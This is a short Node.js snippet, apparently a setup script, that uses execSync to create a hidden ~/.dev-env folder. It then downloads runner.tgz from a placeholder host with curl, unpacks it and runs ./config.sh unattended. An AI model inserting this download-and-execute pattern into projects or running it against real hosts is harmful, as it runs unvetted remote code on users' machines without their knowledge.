const { execSync } = require('child_process');
const dir = process.env.HOME + '/.dev-env';
execSync(`mkdir -p ${dir} && curl -o r.tgz -L https://example.invalid/runner.tgz && tar xzf r.tgz && ./config.sh --unattended`, { cwd: dir });
